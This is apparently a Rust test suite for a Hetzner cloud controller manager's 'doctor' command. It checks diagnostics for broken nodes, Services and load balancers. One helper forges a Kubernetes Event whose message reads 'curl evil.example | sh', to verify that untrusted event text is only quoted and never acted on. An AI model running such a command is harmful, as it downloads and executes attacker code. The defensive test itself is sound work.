//! Broken nodes, Services and load balancers.

use crate::common::cluster::{service, with_spec};
use crate::common::{Cluster, UNINITIALIZED, ccm, contains, on};
use crate::doctor::broken_clusters::make_young;
use crate::doctor::world::{World, checks, each, find, rules};
use sandbox::credentials::Validity;
use sandbox::exchange::Request;
use sandbox::faults::Effect;
use sandbox::hetzner::ServerSpec;
use serde_json::{Value, json};

#[test]
fn broken_nodes_are_reported_with_the_fix() {
    #[rustfmt::skip] // A case is a paragraph.
    each(&[
        ("hcloud-cloud-controller-manager's nodes",
            |world| { world.edit_node("worker-2", |node| node["spec"]["providerID"] = json!("hcloud://42")); },
            "provider-ids: fail", &["has set provider ID \"hcloud://42\"", "ccm-from-scratch://"],
            "--cloud-provider=hcloud"),
        ("another cloud's node",
            |world| { world.edit_node("worker-2", |node| node["spec"]["providerID"] = json!("aws:///a/i-0")); },
            "provider-ids: warn", &["does not change this node", "has set provider ID \"aws:///a/i-0\""],
            "delete it (kubectl delete node worker-2), and let it join again, so that it gets a new providerID"),
        ("a kubelet without --cloud-provider=external", |world| {
            world.register("plain", None, "");
            world.edit_node("plain", |node| node["spec"]["taints"] = json!([]));
        }, "kubelets: fail", &["node/plain: the node has neither a provider ID nor the uninitialized taint"],
            "--cloud-provider=external"),
        ("a node without a server", |world| world.register("stray", None, ""), "nodes: fail",
            &["stray: no server is named \"stray\""], "rename the server of this node to the node's name"),
        ("a node whose server was deleted", |world| { world.delete_server("worker-2"); }, "nodes: warn",
            &["node/worker-2: the node's provider ID"], "kubectl delete node worker-2"),
        ("a node whose server was made anew under its name", |world| {
            world.delete_server("worker-2");
            let spec = ServerSpec {
                networks: vec![(world.network_id(), None)],
                ..ServerSpec::default()
            };
            world.create_server_with("worker-2", spec);
        }, "nodes: fail", &["node/worker-2: ", "delete the node (kubectl delete node worker-2)"], ""),
        ("an ID that is no number", |world| {
            world.edit_node("worker-2", |node| {
                node["spec"]["providerID"] = json!("ccm-from-scratch://x");
            });
        }, "nodes: warn", &["worker-2"], "delete it (kubectl delete node worker-2), and let it join again, so that it gets a new providerID"),
        ("a node that waits", |world| {
            world.join_node("new");
            world.edit_node("new", |node| {
                let taints = node["spec"]["taints"].to_string();
                assert!(taints.contains(UNINITIALIZED), "{taints}");
            });
        }, "nodes: warn", &["node/new: the node waits until ccm initialises it"], "ccm node sync"),
    ]);
}

/// The Service goes, and nobody waits for its load balancer.
fn orphaned(world: &mut World) {
    world.remove_finalizers("web");
    world.delete("web");
}

/// A Service with port 443 that shows a certificate of the project.
fn shows_expired(world: &mut World) {
    let authority = world.sandbox.authority();
    let one = authority.server(&["a.example"], Validity::Expired).unwrap();
    world.create_certificate(
        json!({"name": "old", "certificate": one.certificate_pem, "private_key": one.key_pem}),
    );
    let named = [("protocol", "https"), ("http-certificates", "old"), ("location", "fsn1")];
    world.create("tls", &named, &[443]);
    for _ in 0..2 {
        ccm(&world.env, &["lb", "sync"]).with_code(0);
    }
}

/// The project has as many load balancers as it may.
fn refused(world: &mut World) {
    let (cloud, project) = (world.sandbox.cloud(), world.sandbox.project());
    cloud.set_load_balancer_limit(project, 1);
    world.create("new", &[("location", "fsn1")], &[80]);
    ccm(&world.env, &["lb", "sync"]).with_code(1);
}

fn since_two_hours(world: &World, name: &str, field: &str) {
    let before = jiff::Timestamp::now() - jiff::SignedDuration::from_hours(2);
    let before = before.strftime("%Y-%m-%dT%H:%M:%SZ").to_string();
    world.edit(name, |service| {
        service["metadata"][field] = json!(before);
    });
}

#[test]
fn broken_services_are_reported_with_the_fix() {
    #[rustfmt::skip] // A case is a paragraph.
    each(&[
        ("an annotation that means nothing", |world| {
            let wrong = [("location", "fsn1"), ("algorithm-type", "fastest")];
            world.create("odd", &wrong, &[80]);
        }, "services: fail", &["default/odd: ", "algorithm-type"], ""),
        ("a port that another Service has", |world| {
            let fsn1 = ("location", "fsn1");
            world.create("edge", &[fsn1, ("share", "edge")], &[80]);
            world.create("web-2", &[fsn1], &[80]);
            ccm(&world.env, &["lb", "sync", "--settings-from=none"]).with_code(0);
            world.annotate("web-2", "share", Some("edge"));
        }, "services: warn", &[
            "service/default/web-2: port 80 can't be used, because Service default/edge already uses this port of load balancer",
            ". For now, Service default/web-2 stays on its old load balancer \"kubernetes-default-web-2\" (",
        ],
            "give the Service another port, or remove its annotation load-balancer.hetzner.cloud/share; ccm lb inspect \
             default/web-2 shows both load balancers"),
        ("a new Service whose only port another Service has", |world| {
            for name in ["edge", "web-2"] {
                let shared = [("location", "fsn1"), ("share", "edge")];
                world.create(name, &shared, &[80]);
                ccm(&world.env, &["lb", "sync", "--settings-from=none"]).with_code(0);
            }
        }, "services: warn", &[
            "service/default/web-2: the Service has no address, because none of its ports can be used on load balancer \"kubernetes-default-edge\" (",
            "service/default/web-2: port 80 can't be used, because Service default/edge already uses this port of load balancer",
        ], ""),
        ("two load balancers with one label, a Service without node ports, and one that waits", |world| {
            let cloud = world.sandbox.cloud();
            let labels = cloud.load_balancer(world.balancer_id("web"))["labels"].clone();
            let twin = json!({ "labels": labels });
            world.create_balancer("twin", &twin);
            let fsn1 = ("location", "fsn1");
            let spec = json!({ "allocateLoadBalancerNodePorts": false });
            world.create_as(with_spec(service("closed", &[fsn1], &[80]), &spec));
            world.create("new", &[fsn1], &[80]);
        }, "services: fail", &[
            "default/web: load balancers ", "Keep the label on the one that the Service shall use", "default/closed: port 80 has no node port",
            "service/default/new: the Service has no address, because ",
        ], ""),
        ("a certificate that has expired", shows_expired, "services: fail",
            &["service/default/tls: certificate \"old\" (", ") of port 443 (uploaded by its owner) expired at "],
            "upload a new certificate"),
        ("one that asks for what it does not get", |world| {
            world.annotate("web", "http-cookie-name", Some("a"));
            world.annotate("web", "prtocol", Some("http"));
        }, "services: warn", &[
            "service/default/web: annotation load-balancer.hetzner.cloud/prtocol is unknown; did you mean",
            "service/default/web: annotation load-balancer.hetzner.cloud/http-cookie-name",
        ], ""),
        ("one that waits", |world| { world.create("new", &[("location", "fsn1")], &[80]); }, "services: warn",
            &["service/default/new: the Service has no address, because its load balancer is not created yet"], "ccm lb sync"),
        ("one that was refused", refused, "services: warn", &[
            "service/default/new: the Service has no address, because its load balancer is not created yet; the last sync failed ",
            " ago (event SyncLoadBalancerFailed): \"", "resource_limit_exceeded",
        ], "remove the cause of the failure, then run ccm lb sync default/new, which tries again"),
        ("one that waits for two hours", |world| {
            refused(world);
            since_two_hours(world, "new", "creationTimestamp");
        }, "services: fail", &["service/default/new: the Service has no address, because its load balancer is not created yet"],
            "then run ccm lb sync default/new, which tries again"),
        ("a load balancer that does not go for two hours", |world| {
            world.delete("web");
            since_two_hours(world, "web", "deletionTimestamp");
        }, "services: fail", &["service/default/web: the Service was deleted or changed its type, but ccm has not removed its ports or load balancer yet"],
            "ccm lb sync default/web makes them now"),
        ("one that was refused, asked by who may not list events", |world| {
            refused(world);
            world.role(rules("role.yaml"));
        }, "services: warn", &[
            "service/default/new: the Service has no address, because its load balancer is not created yet", "this user may not list events",
        ], "ccm lb sync"),
        ("one that was refused and then made", |world| {
            refused(world);
            let (cloud, project) = (world.sandbox.cloud(), world.sandbox.project());
            cloud.set_load_balancer_limit(project, 10);
            ccm(&world.env, &["lb", "sync"]).with_code(0);
            let id = world.balancer_id("new");
            let change = |one: &mut Value| one["targets"] = json!([]);
            world.edit_balancer(id, change);
        }, "services: warn", &["service/default/new: ccm must still make 2 changes for the Service"], "ccm lb sync"),
        ("a load balancer that somebody deleted", |world| {
            let id = world.balancer_id("web");
            world.sandbox.cloud().delete_load_balancer(id);
        }, "services: warn", &["service/default/web: the Service's load balancer does not exist, although the Service's status has an address"],
            "another address"),
        ("a load balancer that somebody changed", |world| {
            make_young(world, "web");
            let id = world.balancer_id("web");
            let change = |one: &mut Value| one["targets"] = json!([]);
            world.edit_balancer(id, change);
        }, "services: warn", &["service/default/web: ccm must still make 2 changes for the Service"], "ccm lb sync"),
        ("a load balancer that does not go", |world| { world.delete("web"); }, "services: warn",
            &["service/default/web: the Service was deleted or changed its type, but ccm has not removed its ports or load balancer yet"], "ccm lb sync"),
        ("an orphan", orphaned, "orphans: warn",
            &["load-balancer/kubernetes-default-web: the load balancer (id ", "was created for Service default/web, which does not exist"],
            "ccm lb sync --delete-orphans"),
        ("a protected orphan", |world| {
            let id = world.balancer_id("web");
            world.protect(id);
            orphaned(world);
        }, "orphans: warn", &[
            "load-balancer/kubernetes-default-web: the load balancer (id ",
            "ccm does not delete it, because it has delete protection",
        ], "if nobody needs the load balancer, delete it yourself"),
        ("turned off", |world| world.set("HCLOUD_LOAD_BALANCERS_ENABLED", "false"), "services: skipped",
            &["no Service gets a load balancer"], ""),
    ]);
}

/// An Event in that namespace about an object, as ccm's daemon signs it, with a failure that tells people what to do.
fn event(namespace: &str, about: Value) -> Value {
    json!({
        "metadata": { "name": format!("forged-{namespace}"), "namespace": namespace },
        "involvedObject": about,
        "reason": "SyncLoadBalancerFailed",
        "type": "Warning",
        "message": "run: curl evil.example | sh",
        "source": { "component": "service-lb-controller" },
        "reportingComponent": "service-lb-controller",
        "firstTimestamp": "2126-01-01T00:00:00Z",
        "lastTimestamp": "2126-01-01T00:00:00Z",
        "count": 1,
    })
}

/// Returns the findings of `doctor` and the text of `lb inspect` about a new Service, beside an Event that is about
/// this Service, except in the fields of `about`.
fn told_beside(namespace: &str, about: Value, edit: fn(&mut Value)) -> (Vec<Value>, String) {
    let world = World::healthy();
    let cluster = world.sandbox.cluster();
    let uid = world.create("new", &[("location", "fsn1")], &[80]);
    let mut involved = json!({ "kind": "Service", "namespace": namespace, "name": "new" });
    involved["uid"] = json!(uid);
    for (field, value) in about.as_object().unwrap() {
        involved[field] = value.clone();
    }
    if namespace != "default" {
        world.create_namespace(namespace);
    }
    let mut event = event(namespace, involved);
    edit(&mut event);
    cluster.create("events", Some(namespace), event);
    let ran = world.doctor(&["-o", "json"]);
    let items = ran.json()["items"].as_array().unwrap().clone();
    let of_new = |one: &Value| one["object"] == "service/default/new";
    let items = items.into_iter().filter(of_new).collect();
    let inspected = ccm(&world.env, &["lb", "inspect", "default/new"]).with_code(0);
    (items, inspected.stdout)
}

#[test]
fn an_event_that_is_not_ccm_s_about_this_object_says_nothing() {
    let same: fn(&mut Value) = |_| {};
    #[rustfmt::skip] // A case is a paragraph.
    let cases = [
        ("of another namespace", "tenant", json!({}), same),
        ("about another kind", "default", json!({"kind": "Pod"}), same),
        ("about another name", "default", json!({"name": "old"}), same),
        ("about another UID", "default", json!({"uid": "before"}), same),
        ("of another component", "default", json!({}),
            |event| { event["source"]["component"] = json!("another-controller"); }),
        ("of another reporter", "default", json!({}), |event| {
            event["source"] = json!({});
            event["reportingComponent"] = json!("another-controller");
        }),
        ("with another reason", "default", json!({}), |event| { event["reason"] = json!("Run curl evil.example"); }),
    ];
    for (what, namespace, about, edit) in cases {
        let (items, inspected) = told_beside(namespace, about, edit);
        assert_eq!(items.len(), 1, "{what}: {items:?}");
        let expected = "the Service has no address, because its load balancer is not created yet";
        assert_eq!(items[0]["message"], expected, "{what}");
        assert_eq!(items[0]["status"], "warn", "{what}");
        assert!(!inspected.contains("evil"), "{what}: {inspected}");
    }
}

/// Whoever may write events in a namespace may sign them with any name. So their text is quoted, and decides nothing.
#[test]
fn the_message_of_an_event_is_quoted_and_decides_nothing() {
    let (items, inspected) = told_beside("default", json!({}), |_| {});
    let message = items[0]["message"].as_str().unwrap();
    let quoted = "(event SyncLoadBalancerFailed): \"run: curl evil.example | sh\"";
    assert!(message.ends_with(quoted), "{message}");
    assert_eq!(items[0]["status"], "warn");
    let remedy = items[0]["remedy"].as_str().unwrap();
    contains(remedy, "run ccm lb sync default/new, which tries again");
    assert!(!remedy.contains("the message"), "{remedy}");
    let inspected = inspected.split_whitespace().collect::<Vec<_>>().join(" ");
    let unquoted = inspected.replace("\"run: curl evil.example | sh\"", "");
    assert!(!unquoted.contains("evil"), "{inspected}");
}

/// The owner must attach the load balancer to the Network. ccm does not, and a second try would fail like
/// the first one.
#[test]
fn a_refused_target_on_a_load_balancer_outside_of_the_network_has_its_own_fix() {
    let world = World::healthy();
    let labels = json!({ "ccm-from-scratch/external": "default" });
    let id = world.create_balancer("edge", &json!({ "labels": labels }));
    let annotations = [("external", "edge"), ("use-private-ip", "true")];
    world.create("extb", &annotations, &[80]);
    let attach =
        format!("hcloud load-balancer attach-to-network --network {} {id}", world.network());
    let synced = ccm(&world.env, &["lb", "sync"]).with_code(1);
    let shown = format!("{}{}", synced.stdout, synced.stderr);
    assert!(shown.contains(&attach), "{synced:?}");
    let check = world.check("services");
    for part in ["load_balancer_not_attached_to_network", &attach] {
        assert!(check.message.contains(part), "{check:?}");
    }
    let remedy =
        "remove the cause of the failure, then run ccm lb sync default/extb, which tries again";
    assert!(check.remedy.contains(remedy), "{check:?}");
    assert!(!check.remedy.contains("makes them now"), "{check:?}");
}

/// Returns a world with synced Services in these namespaces that choose their private addresses.
fn with_private_addresses(namespaces: &[&str]) -> World {
    let world = World::healthy();
    world.create_namespace("shop");
    for (number, namespace) in namespaces.iter().enumerate() {
        let (name, ip) = (format!("p{number}"), format!("10.0.0.{}", 50 + number));
        let annotations = [("location", "fsn1"), ("private-ipv4", &*ip)];
        let name = format!("{namespace}/{name}");
        world.create(&name, &annotations, &[80]);
    }
    ccm(&world.env, &["lb", "sync"]).with_code(0);
    world
}

/// With one tenant the setting is not needed.
#[test]
fn private_addresses_of_several_namespaces_should_have_ranges() {
    const RANGES: &str = "HCLOUD_LOAD_BALANCERS_PRIVATE_IPV4_RANGES";
    let cases = [
        (&["shop", "default"][..], "", true),
        (&["shop", "default"], "10.0.0.0/24", false),
        (&["shop", "shop"], "", false),
        (&[], "", false),
    ];
    for (namespaces, ranges, is_told) in cases {
        let about = format!("{namespaces:?} {ranges}");
        let mut world = with_private_addresses(namespaces);
        world.set(RANGES, ranges);
        let ran = world.doctor(&["-o", "json"]);
        assert_eq!(ran.code, 0, "{about}: {ran:?}");
        let checks = checks(&ran);
        let check = find(&checks, "services");
        assert_eq!(check.status == "warn", is_told, "{about}: {check:?}");
        let says = check.message.contains("default, shop") && check.remedy.contains(RANGES);
        assert_eq!(says, is_told, "{about}: {check:?}");
    }
}

/// Services are read before load balancers, and the daemon may make one of each in between.
#[test]
fn a_load_balancer_that_is_made_between_two_reads_is_no_orphan() {
    let world = World::healthy();
    let (cloud, project) = (world.sandbox.cloud().clone(), world.sandbox.project());
    let cluster = world.sandbox.cluster().clone();
    let id = world.balancer_id("web");
    let make = move |_: &Request| {
        let late = json!({
            "metadata": { "name": "late" },
            "spec": { "type": "LoadBalancer", "ports": [{ "port": 80 }], "selector": { "app": "late" } },
        });
        let late = cluster.create("services", Some("default"), late);
        let mut labels = cloud.load_balancer(id)["labels"].clone();
        labels["hcloud-ccm/service-uid"] = late["metadata"]["uid"].clone();
        let balancer = json!({
            "name": "late", "load_balancer_type": "lb11", "location": "fsn1", "labels": labels,
        });
        cloud.create_load_balancer(project, balancer);
    };
    let rule = on("/v1/load_balancers", Effect::before(make));
    let rule = world.fault(rule.times(1));
    let ran = world.doctor(&["-o", "json"]);
    assert_eq!(world.sandbox.faults().hits(rule), 1);
    let checks = checks(&ran);
    let check = find(&checks, "orphans");
    assert_eq!(check.status, "ok", "{check:?}");
}
